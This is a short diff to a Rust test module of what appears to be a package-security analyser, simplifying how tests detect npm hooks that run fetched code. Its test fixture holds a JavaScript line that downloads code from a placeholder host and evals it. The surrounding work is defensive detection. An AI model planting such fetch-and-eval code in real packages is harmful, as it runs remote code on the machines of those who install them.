@@ -1,9 +1,8 @@
 //! Which files of the package command lines run.
 
-use crate::flow::analyse;
-use crate::package::Package;
-use crate::unpack::{Entry, Tree, text_file as file};
-use customs_model::{SinkKind, SourceKind, Zone};
+use crate::flow::testing::remote_code;
+use crate::unpack::{Entry, text_file as file};
+use customs_model::Zone;
 
 const GO: &str = "const go = () => require('https').get('https://a.invalid/b', (r) => {
     let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) });\n";
@@ -16,15 +15,7 @@ def go(*more):
 
 /// When the strongest zone is in which something is run that was fetched.
 fn when(entries: Vec<Entry>) -> Option<Zone> {
-    let found = analyse(&Package::new(&Tree {
-        entries,
-        ..Tree::default()
-    }));
-    let fetched = found
-        .flows
-        .iter()
-        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode);
-    fetched.map(|flow| flow.zone).max()
+    remote_code(entries)
 }
 
 /// Whether a hook of npm runs what is fetched, with these files and entries of the manifest.
